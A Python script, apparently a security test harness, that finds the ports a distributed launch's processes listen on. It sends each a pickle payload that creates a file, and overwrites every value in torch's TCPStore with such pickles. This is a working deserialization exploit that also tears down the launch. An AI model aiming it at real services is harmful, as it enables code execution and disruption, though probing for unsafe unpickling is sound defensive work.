"""An attacker: whoever reaches a port of a launch, and has no key."""

from __future__ import annotations

import base64
import contextlib
import ipaddress
import json
import pickle
import socket
import sys
from datetime import timedelta
from pathlib import Path

Door = tuple[str, int]
"""An address and a port."""


class Payload:
    """Unpickled, it writes a file."""

    def __init__(self, target: Path) -> None:
        self._target = target

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return Path.touch, (self._target,)


def doors(pids: list[int]) -> set[Door]:
    """Where processes listen, and where they take datagrams."""
    links = []
    for pid in pids:
        for entry in Path(f"/proc/{pid}/fd").iterdir():
            with contextlib.suppress(OSError):
                links.append(str(entry.readlink()))
    found = set()
    for table, state in (("tcp", "0A"), ("tcp6", "0A"), ("udp", "07"), ("udp6", "07")):
        for line in (
            Path(f"/proc/{pids[0]}/net/{table}").read_text(encoding="ascii").splitlines()[1:]
        ):
            _, local, _, at, *rest = line.split()
            if at == state and f"socket:[{rest[5]}]" in links:
                digits, port = local.split(":")
                found.add((_address(digits), int(port, 16)))
    return found


def _address(digits: str) -> str:
    """The address in the kernel's words of four bytes, each from its last to its first."""
    words = [bytes.fromhex(digits[at : at + 8])[::-1] for at in range(0, len(digits), 8)]
    return str(ipaddress.ip_address(b"".join(words)))


def attack(door: Door, target: Path) -> bool:
    """Send a pickle that writes the target; whether somebody listens there."""
    try:
        with socket.create_connection(door, timeout=5) as raw:
            raw.sendall(pickle.dumps(Payload(target)))
    except OSError:
        return False
    return True


def attack_store(door: Door, target: Path) -> None:
    """Make every value of a store such a pickle, as torch's rendezvous would read it."""
    from torch.distributed import TCPStore

    # The first store that is attacked ends the launch, and others with it.
    with contextlib.suppress(RuntimeError):
        store = TCPStore(*door, is_master=False, timeout=timedelta(seconds=5))
        for key in store.list_keys():
            store.set(key, base64.b64encode(pickle.dumps(Payload(target))).decode())


if __name__ == "__main__":
    goal = Path(sys.argv[1])
    tried, stores = (
        [(address, port) for address, port in json.loads(each)] for each in sys.argv[2:]
    )
    sys.stdout.write(json.dumps([attack(each, goal) for each in tried]))
    for each in stores:
        attack_store(each, goal)
